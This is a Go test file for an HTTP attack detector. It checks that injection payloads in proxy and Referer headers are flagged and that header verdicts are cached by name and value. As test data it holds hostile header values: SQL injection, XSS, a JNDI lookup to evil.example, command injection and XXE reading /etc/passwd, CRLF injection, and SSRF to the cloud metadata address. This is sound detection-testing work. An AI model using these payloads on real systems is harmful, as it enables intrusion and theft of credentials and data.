package detect

import (
	"net/netip"
	"testing"
	"time"

	"github.com/customernode/gatekeeper/internal/testutil"
)

// SQL injection and XSS were looked for only in the Referer's
// query and in a short list of headers; Burp/ZAP header insertion points
// (the Referer as a whole, X-Forwarded-For, Origin) passed. They are
// attacks now; testdata/header_everyday.txt holds their honest values.
func TestInjectionsInProxyHeadersAndTheReferersPathAreAttacks(t *testing.T) {
	d := newDetector(t, testutil.NewClock(time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)))
	for i, h := range []struct{ name, value string }{
		{"Referer", "https://acme.example.com/list' AND SLEEP(5)-- -"},
		{"Referer", "https://acme.example.com/\"><script>alert(1)</script>"},
		{"Referer", "' OR '1'='1"},
		{"X-Forwarded-For", "127.0.0.1' AND SLEEP(5)-- -"},
		{"X-Forwarded-For", "<script>alert(1)</script>"},
		{"Origin", "https://x.example' AND SLEEP(5)-- -"},
		{"X-Real-Ip", "1' AND EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))-- -"},
	} {
		r := browserRequest("/")
		r.Header.Set(h.name, h.value)
		if res := d.inspect(r, netip.AddrFrom4([4]byte{203, 3, 0, byte(i)}), 0); !res.Attack() {
			t.Errorf("%s: %q passes", h.name, h.value)
		}
	}
}

// A header value's verdict is remembered by a hash of the header's name and
// the whole value: the value seen again gets the verdict it got, every
// signal intact; the same value in another header gets that header's; a
// value that differs in one byte is judged afresh.
func TestHeaderVerdictsAreRememberedByNameAndValue(t *testing.T) {
	p := newPayloadInspector(0)
	fields := []headerField{
		{"X-Forwarded-For", "198.51.100.20"},
		{"X-Forwarded-For", "198.51.100.20' AND SLEEP(5)-- -"},
		{"Referer", "https://acme.example.com/\"><script>alert(1)</script>"},
		{"X-Api-Version", "${jndi:ldap://evil.example/a}"},
		{"X-Custom", "x; cat /etc/passwd"},
		{"X-Custom", "x%0d%0aSet-Cookie: a=b"},
		{"X-Custom", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`},
		{"X-Custom", "http://169.254.169.254/latest/meta-data/"},
		{"X-Forwarded-Host", "php://filter/resource=/etc/passwd"},
		{"Cookie", "session=abc; theme=dark"},
		{"Cookie", "session=abc' OR '1'='1"},
	}
	var seen SignalSet
	for _, f := range fields {
		want := p.headerValue(f.name, f.value)
		seen |= want
		for i := range 2 {
			if got := p.headerVerdict(f.name, f.value); got != want {
				t.Errorf("%s: %q, call %d: %v, judged %v", f.name, f.value, i+1, got.Names(), want.Names())
			}
		}
	}
	for _, s := range []Signal{SignalSQLi, SignalXSS, SignalCommandInjection, SignalFileInclusion, SignalExploit,
		SignalCRLF, SignalXXE, SignalSSRF} {
		if !seen.Has(s) {
			t.Errorf("no field gave %v: the cache's round trip of it is untested", s)
		}
	}
	// Loopback in a proxy's address header is everyday; elsewhere it is a
	// forgery.
	url := "http://127.0.0.1:8080/admin"
	if s := p.headerVerdict("X-Forwarded-Host", url); !s.Has(SignalSSRF) {
		t.Errorf("X-Forwarded-Host %q: %v, want ssrf", url, s.Names())
	}
	if s := p.headerVerdict("Referer", url); s.Has(SignalSSRF) {
		t.Errorf("Referer %q after X-Forwarded-Host's: %v, want no ssrf", url, s.Names())
	}
}
